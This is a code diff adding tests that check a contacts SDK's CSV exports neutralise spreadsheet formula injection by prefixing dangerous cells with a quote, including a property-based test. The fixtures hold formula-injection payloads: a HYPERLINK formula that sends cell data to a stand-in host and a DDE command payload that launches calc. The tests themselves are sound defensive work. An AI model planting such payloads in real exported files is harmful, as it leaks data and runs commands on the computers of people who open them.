@@ -1,4 +1,6 @@
+import * as fc from 'fast-check';
 import nock from 'nock';
+import Papa from 'papaparse';
 import {
   createContactsModule,
   SipgateIOPartialFailureError,
@@ -337,6 +339,66 @@ describe('contacts CRUD and export', () => {
     });
     await expect(contacts.exportAsCsv('PRIVATE', '"')).rejects.toMatchObject({ field: 'delimiter' });
     nock.cleanAll();
+  });
+
+  describe('CSV injection (OWASP): cells a spreadsheet would run as formulas', () => {
+    const address = (streetAddress: string) => ({ poBox: '', extendedAddress: '', streetAddress, locality: '', region: '', postalCode: '', country: '' });
+    const items = [
+      contact('1', 'PRIVATE', {
+        name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        emails: [{ email: '@SUM(1+1)@example.com', type: [] }],
+        numbers: [{ number: '+4915799912345', type: [] }, { number: '+4921163553355', type: [] }],
+        addresses: [address('\tTab Street 1')],
+        organization: [["-2+3+cmd|' /C calc'!A0"]],
+      }),
+      contact('2', 'PRIVATE', { name: '+4915799912345', numbers: [{ number: '+49 157 99912345', type: [] }], organization: [['\rCR Ltd']] }),
+      contact('3', 'PRIVATE', { name: '+1-1', emails: [{ email: '+x@example.com', type: [] }], numbers: [{ number: '-1', type: [] }] }),
+      contact('4', 'PRIVATE', { name: 'Ada Lovelace', emails: [{ email: 'ada@example.com', type: [] }], organization: [['ACME = fun']] }),
+    ];
+    const cellsOf = (csv: string): string[][] => Papa.parse<string[]>(csv).data.slice(1);
+
+    it('prefixes them with a single quote, leaving phone numbers and other cells as they are', async () => {
+      nock(API).get('/contacts').query(true).reply(200, { items });
+      expect(cellsOf(await createContactsModule(testClient()).exportAsCsv('PRIVATE'))).toEqual([
+        ['1', `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "'@SUM(1+1)@example.com", '+4915799912345, +4921163553355', "'\tTab Street 1", "'-2+3+cmd|' /C calc'!A0"],
+        ['2', '+4915799912345', '', '+49 157 99912345', '', "'\rCR Ltd"],
+        ['3', "'+1-1", "'+x@example.com", "'-1", '', ''],
+        ['4', 'Ada Lovelace', 'ada@example.com', '+4921163553355', '', 'ACME = fun'],
+      ]);
+    });
+
+    it('does the same in every CSV export and in the extra columns', async () => {
+      nock(API).get('/contacts').query(true).times(2).reply(200, { items: items.slice(0, 1) });
+      const contacts = createContactsModule(testClient());
+      const { response } = await contacts.paginatedExportAsCsv('PRIVATE', ';', { offset: 0, limit: 10 });
+      let streamed = '';
+      for await (const chunk of contacts.iterateCsv('PRIVATE', { extraColumns: ['scope'] })) streamed += chunk;
+      for (const csv of [response, streamed]) expect(cellsOf(csv)[0][1]).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
+    });
+
+    it('no exported cell starts a formula, whatever the contact holds (property)', async () => {
+      const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '');
+      const text = fc.tuple(formulaStart, fc.string({ maxLength: 12 })).map(([start, rest]) => start + rest);
+      const generated = fc.array(
+        fc.record({ name: text, email: text, number: fc.oneof(text, fc.constantFrom('+4915799912345', '+49 211 63553355')), org: text, street: text }),
+        { minLength: 1, maxLength: 5 },
+      );
+      await fc.assert(
+        fc.asyncProperty(generated, async (people) => {
+          const list = people.map((p, i) =>
+            contact(`c${i}`, 'PRIVATE', { name: p.name, emails: [{ email: p.email, type: [] }], numbers: [{ number: p.number, type: [] }], organization: [[p.org]], addresses: [address(p.street)] }),
+          );
+          nock(API).get('/contacts').query(true).reply(200, { items: list });
+          const rows = cellsOf(await createContactsModule(testClient()).exportAsCsv('PRIVATE'));
+          for (const cell of rows.flat()) {
+            // Only a phone number (or a list of them) may start with + and stay as it is.
+            if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^\+[\d ()./-]+(, \+[\d ()./-]+)*$/);
+          }
+          nock.cleanAll();
+        }),
+        { numRuns: 40 },
+      );
+    });
   });
 
   describe('streaming exports', () => {
